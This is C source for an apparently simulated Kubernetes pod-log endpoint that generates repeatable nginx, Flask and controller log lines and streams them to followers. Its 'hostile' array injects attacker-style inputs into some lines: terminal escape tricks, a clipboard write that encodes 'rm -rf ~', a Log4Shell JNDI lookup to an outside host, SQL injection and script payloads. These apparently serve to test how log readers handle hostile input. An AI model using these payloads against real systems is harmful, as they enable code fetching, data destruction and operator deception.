/* Container logs. A line is a function of the container and of its number, so that nothing is kept: what was written an hour ago is written again
 * the same, and more comes as time goes on. Some lines carry what attackers send. */
#include <stdlib.h>
#include <string.h>

#include "base/json.h"
#include "base/mem.h"
#include "base/when.h"
#include "sim/kube.h"

#define LINES_KEPT 20000 /* as many as rotation leaves */

struct source { /* one run of a container */
    const struct kube_app *app;
    const char *name; /* container */
    char key[128];    /* what chance is drawn from */
    int64_t from, to; /* to: KUBE_NEVER while it runs */
    bool crashed;
    const char *reason;
};

struct kube_follower {
    struct kube_sim *k;
    struct kube_follower *next, *previous;
    struct server_stream *stream;
    char *ns, *pod, *container, uid[37];
    int64_t started_at, line, bytes_left;
    bool stamps, ended;
};

static const int64_t periods[] = {[LOG_NGINX] = 900, [LOG_FLASK] = 1300, [LOG_KLOG] = 9000};

static int64_t line_time(const struct source *s, int64_t line)
{
    int64_t period = periods[s->app->log];
    return line < 4 ? s->from + line * 120 : s->from + line * period + (int64_t)(kube_hash(s->key, (uint64_t)line * 8) % (uint64_t)period);
}

/* How many lines there are at `now`. */
static int64_t line_count(const struct source *s, int64_t now)
{
    int64_t until = now < s->to ? now : s->to, count = (until - s->from) / periods[s->app->log] + 1;
    if (until < s->from)
        return 0;
    while (count > 0 && line_time(s, count - 1) > until)
        count--;
    while (line_time(s, count) <= until)
        count++;
    return count;
}

static const char *const paths[] = {
    "/",     "/index.html", "/static/js/main.7c1f0a.js", "/static/css/main.c3d2e1.css", "/favicon.ico", "/manifest.json", "/cart", "/products/41",
    "/login"};
static const char *const calls[] = {"/api/v1/orders", "/api/v1/products?page=2", "/api/v1/products/41", "/api/v1/session", "/api/v1/cart",
                                    "/healthz",       "/api/v1/users/me"};
static const char *const agents[] = {"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
                                     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)", "ELB-HealthChecker/2.0", "Amazon CloudFront",
                                     "curl/8.11.0"};
/* As they arrive: terminal titles, cleared screens, reversed and invisible text, broken UTF-8. */
static const char *const hostile[] = {"\x1b]0;owned\x07",
                                      "\x1b[2J\x1b[1;1H\x1b[32mall systems normal\x1b[0m",
                                      "\xe2\x80\xae"
                                      "gpj.exe",
                                      "\xff\xfe\xc0\xaf..",
                                      "${jndi:ldap://203.0.113.9/a}",
                                      "' OR 1=1 --\xe2\x80\x8b",
                                      "\x1b[8m\x1b]52;c;cm0gLXJmIH4=\x07",
                                      "\xc2\x9b"
                                      "31m<script>alert(1)</script>",
                                      "\rroot logged in\b\b\b"};

#define PICK(list, salt) (list)[kube_hash(s->key, (uint64_t)line * 8 + (salt)) % (sizeof(list) / sizeof *(list))]

static void nginx_line(const struct source *s, int64_t line, int64_t at, struct str *out)
{
    uint32_t dice = kube_hash(s->key, (uint64_t)line * 8 + 1);
    char stamp[40];
    bool bad = dice % 47 == 0;
    str_addf(out, "10.0.%u.%u - - [%s] \"GET %s%s HTTP/1.1\" %d %u \"-\" \"%s\"", 11 + dice % 2, 20 + dice % 200, when_iso(at, stamp, sizeof stamp),
             PICK(paths, 2), bad ? PICK(hostile, 3) : "",
             bad              ? 404
             : dice % 31 == 0 ? 304
                              : 200,
             200 + dice % 90000, dice % 61 == 0 ? PICK(hostile, 4) : PICK(agents, 4));
}

static void flask_line(const struct source *s, int64_t line, int64_t at, struct str *out)
{
    uint32_t dice = kube_hash(s->key, (uint64_t)line * 8 + 1);
    char stamp[40];
    when_iso_ms(at, stamp, sizeof stamp);
    if (dice % 97 == 0)
        str_addf(out, "%s WARNING sqlalchemy.pool QueuePool limit of size 10 overflow 5 reached, waited %u ms", stamp, dice % 900);
    else if (dice % 53 == 0)
        str_addf(out, "%s ERROR app.session login failed user=\"%s\" remote=198.51.100.%u", stamp, PICK(hostile, 3), dice % 250);
    else
        str_addf(out, "%s INFO gunicorn.access %s %s %d %ums trace=%08x", stamp, dice % 5 == 0 ? "POST" : "GET", PICK(calls, 2),
                 dice % 211 == 0 ? 500 : 200, 3 + dice % 180, dice);
}

static void klog_line(const struct source *s, int64_t line, int64_t at, struct str *out)
{
    static const char *const words[] = {"Reconciling",
                                        "Successfully synced",
                                        "Cache is up to date",
                                        "Applying desired state",
                                        "Watch closed, starting again",
                                        "Lease renewed",
                                        "All records are already up to date"};
    char stamp[40];
    when_iso_ms(at, stamp, sizeof stamp);
    str_addf(out, "I%.2s%.2s %.12s       1 controller.go:%u] \"%s\" controller=\"%s\"", stamp + 5, stamp + 8, stamp + 11,
             90 + kube_hash(s->key, (uint64_t)line) % 300, PICK(words, 2), s->name);
}

static void boot_line(const struct source *s, int64_t line, int64_t at, struct str *out)
{
    char stamp[40];
    when_iso_ms(at, stamp, sizeof stamp);
    static const char *const words[] = {"starting", "configuration loaded", "secrets mounted from /mnt/secrets-store", "ready to serve"};
    str_addf(out, "%s INFO %s %s", stamp, s->name, words[line]);
}

static void one_line(const struct source *s, int64_t line, bool stamps, struct str *out)
{
    int64_t at = line_time(s, line);
    char stamp[40];
    if (stamps) { /* RFC 3339 with nanoseconds */
        when_iso_ms(at, stamp, sizeof stamp);
        str_addf(out, "%.23s%06uZ ", stamp, kube_hash(s->key, (uint64_t)line * 8 + 7) % 1000000);
    }
    if (line < 4)
        boot_line(s, line, at, out);
    else if (s->app->log == LOG_NGINX)
        nginx_line(s, line, at, out);
    else if (s->app->log == LOG_FLASK)
        flask_line(s, line, at, out);
    else
        klog_line(s, line, at, out);
    str_addc(out, '\n');
}

static void last_words(const struct source *s, bool stamps, struct str *out)
{
    static const char *const words[] = {"Traceback (most recent call last):", "  File \"/app/wsgi.py\", line 41, in main",
                                        "    pool = connect(settings.database_url, timeout=5)",
                                        "psycopg.OperationalError: connection timeout expired"};
    char stamp[40];
    if (!s->crashed || strcmp(s->reason, "OOMKilled") == 0)
        return; /* a killed process says nothing */
    for (size_t i = 0; i < sizeof words / sizeof *words; i++)
        str_addf(out, "%s%s%s\n", stamps ? when_iso_ms(s->to, stamp, sizeof stamp) : "", stamps ? " " : "", words[i]);
}

/* Which container; answers with an error itself. */

static size_t container_index(const struct kube_pod *p, const char *name, const char **found)
{
    const json_t *lists[] = {json_object_get(p->template->spec, "initContainers"), json_object_get(p->template->spec, "containers")};
    size_t at = 0;
    for (int l = 0; l < 2; l++)
        for (size_t i = 0; i < json_array_size(lists[l]); i++, at++)
            if (text_equal(json_text(json_array_get(lists[l], i), "name"), name)) {
                *found = json_text(json_array_get(lists[l], i), "name");
                return at;
            }
    return SIZE_MAX;
}

static void names_of(const struct kube_pod *p, struct str *out)
{
    size_t i;
    json_t *row;
    json_array_foreach (json_object_get(p->template->spec, "containers"), i, row)
        str_addf(out, "%s%s", i ? " " : "", json_text_or(row, "name", ""));
}

static size_t choose_container(struct kube_call *c, const struct kube_object *pod, const char *wanted, const char **name)
{
    struct str names = STR_INIT(4096);
    size_t at;
    if (wanted && *wanted) {
        at = container_index(pod->pod, wanted, name);
        if (at == SIZE_MAX)
            kube_status(c, 400, "BadRequest", NULL, "container %s is not valid for pod %s", wanted, pod->name);
        return at;
    }
    at = pod->pod->template->init_count;
    *name = json_text_or(json_array_get(json_object_get(pod->pod->template->spec, "containers"), 0), "name", "");
    if (pod->pod->template->container_count > 1) {
        names_of(pod->pod, &names);
        kube_status(c, 400, "BadRequest", NULL, "a container name must be specified for pod %s, choose one of: [%s]", pod->name, str_text(&names));
        str_free(&names);
        return SIZE_MAX;
    }
    return at;
}

static void source_of(const struct kube_object *pod, const char *name, const struct kube_container *c, bool previous, struct source *s)
{
    *s = (struct source){.app = pod->pod->template->app, .name = name, .to = KUBE_NEVER};
    bool ended = previous || c->state != CONTAINER_RUNNING;
    bool last = previous || c->state == CONTAINER_WAITING;
    s->from = last ? c->last_started_at : c->started_at;
    if (ended) {
        s->to = last ? c->last_finished_at : c->finished_at;
        s->reason = last ? c->last_reason : c->reason;
        s->crashed = (last ? c->last_exit_code : c->exit_code) != 0;
    }
    text_format(s->key, sizeof s->key, "%s/%.40s/%lld", pod->uid, name, (long long)s->from);
}

static bool find_source(struct kube_call *c, const struct kube_object *pod, bool previous, struct source *s)
{
    char *wanted = server_query(c->request, "container");
    const char *name = "";
    size_t at = choose_container(c, pod, wanted, &name);
    free(wanted);
    if (at == SIZE_MAX)
        return false;
    const struct kube_container *container = &pod->pod->at[at];
    if (previous && !container->last_reason)
        kube_status(c, 400, "BadRequest", NULL, "previous terminated container \"%s\" in pod \"%s\" not found", name, pod->name);
    else if (!previous && container->state == CONTAINER_WAITING && !container->last_reason)
        kube_status(c, 400, "BadRequest", NULL, "container \"%s\" in pod \"%s\" is waiting to start: %s", name, pod->name, container->reason);
    else {
        source_of(pod, name, container, previous, s);
        return true;
    }
    return false;
}

static int64_t since(struct kube_call *c)
{
    int64_t seconds = kube_query_int(c, "sinceSeconds", 0), at = 0;
    char *text = server_query(c->request, "sinceTime");
    if (seconds > 0)
        at = c->k->now - seconds * 1000;
    else if (text)
        when_parse_iso(text, &at);
    free(text);
    return at;
}

/* The first line to show. */
static int64_t first_line(struct kube_call *c, const struct source *s, int64_t count)
{
    int64_t from = since(c), tail = kube_query_int(c, "tailLines", -1), first = count > LINES_KEPT ? count - LINES_KEPT : 0, high = count;
    if (from > s->from)
        for (int64_t low = first; low < high;) {
            int64_t middle = low + (high - low) / 2;
            if (line_time(s, middle) < from)
                first = low = middle + 1;
            else
                high = middle;
        }
    return tail >= 0 && count - first > tail ? count - tail : first;
}

static void follower_closed(void *arg)
{
    struct kube_follower *f = arg;
    if (f->previous)
        f->previous->next = f->next;
    else if (f->k)
        f->k->followers = f->next;
    if (f->next)
        f->next->previous = f->previous;
    free(f->ns);
    free(f->pod);
    free(f->container);
    free(f);
}

static void follow(struct kube_call *c, const struct kube_object *pod, const struct source *s, int64_t line, int64_t bytes_left, bool stamps)
{
    struct kube_follower *f = mem_new(sizeof *f);
    *f = (struct kube_follower){.k = c->k,
                                .next = c->k->followers,
                                .ns = mem_strdup(pod->ns),
                                .pod = mem_strdup(pod->name),
                                .container = mem_strdup(s->name),
                                .started_at = s->from,
                                .line = line,
                                .bytes_left = bytes_left,
                                .stamps = stamps};
    text_copy(f->uid, sizeof f->uid, pod->uid);
    if (f->next)
        f->next->previous = f;
    c->k->followers = f;
    f->stream = reply_stream(c->reply, follower_closed, f);
}

void kube_log_get(struct kube_call *c)
{
    const struct kube_object *pod = kube_find(c->k, KUBE_POD, c->ns, c->name);
    struct source s;
    struct str *out = reply_body(c->reply);
    bool previous = kube_query_flag(c, "previous"), stamps = kube_query_flag(c, "timestamps"), goes_on = kube_query_flag(c, "follow");
    int64_t limit = kube_query_int(c, "limitBytes", INT64_MAX);
    if (!pod) {
        kube_not_found(c);
        return;
    }
    if (limit < 1 || kube_query_int(c, "tailLines", 0) < 0) {
        kube_status(c, 422, "Invalid", NULL, "PodLogOptions \"%s\" is invalid: %s", c->name,
                    limit < 1 ? "limitBytes: Invalid value: must be greater than 0" : "tailLines: Invalid value: must be greater than or equal to 0");
        return;
    }
    if (!find_source(c, pod, previous, &s))
        return;
    int64_t count = line_count(&s, c->k->now);
    for (int64_t line = first_line(c, &s, count); line < count && (int64_t)out->len < limit; line++)
        one_line(&s, line, stamps, out);
    if (s.to != KUBE_NEVER)
        last_words(&s, stamps, out);
    if ((int64_t)out->len > limit)
        str_cut(out, (size_t)limit, out->len - (size_t)limit);
    reply_header(c->reply, "Content-Type", "text/plain");
    if (goes_on && s.to == KUBE_NEVER && (int64_t)out->len < limit)
        follow(c, pod, &s, count, limit - (int64_t)out->len, stamps);
}

/* False once there will be no more. */
static bool send_more(struct kube_follower *f, struct str *out)
{
    const struct kube_object *pod = kube_find(f->k, KUBE_POD, f->ns, f->pod);
    const char *name;
    struct source s;
    if (!pod || strcmp(pod->uid, f->uid) != 0)
        return false;
    size_t at = container_index(pod->pod, f->container, &name);
    const struct kube_container *c = &pod->pod->at[at];
    bool same = c->started_at == f->started_at && c->state != CONTAINER_WAITING;
    source_of(pod, name, c, false, &s);
    if (!same && c->last_started_at == f->started_at)
        source_of(pod, name, c, true, &s);
    else if (!same)
        return false;
    for (int64_t count = line_count(&s, f->k->now); f->line < count; f->line++)
        one_line(&s, f->line, f->stamps, out);
    if (s.to != KUBE_NEVER)
        last_words(&s, f->stamps, out);
    return s.to == KUBE_NEVER;
}

void kube_log_step(struct kube_sim *k)
{
    for (struct kube_follower *f = k->followers, *next; f; f = next) {
        struct str out = STR_INIT((size_t)8 << 20);
        next = f->next;
        if (f->ended)
            continue;
        bool more = send_more(f, &out);
        size_t len = (int64_t)out.len < f->bytes_left ? out.len : (size_t)f->bytes_left;
        f->bytes_left -= (int64_t)len;
        if (len)
            server_stream_write(f->stream, str_text(&out), len);
        str_free(&out);
        f->ended = !more || f->bytes_left <= 0;
        if (f->ended)
            server_stream_end(f->stream);
    }
}

void kube_log_free(struct kube_sim *k)
{
    for (struct kube_follower *f = k->followers, *next; f; f = next) {
        next = f->next;
        f->k = NULL;
        f->next = f->previous = NULL;
        server_stream_end(f->stream);
    }
    k->followers = NULL;
}
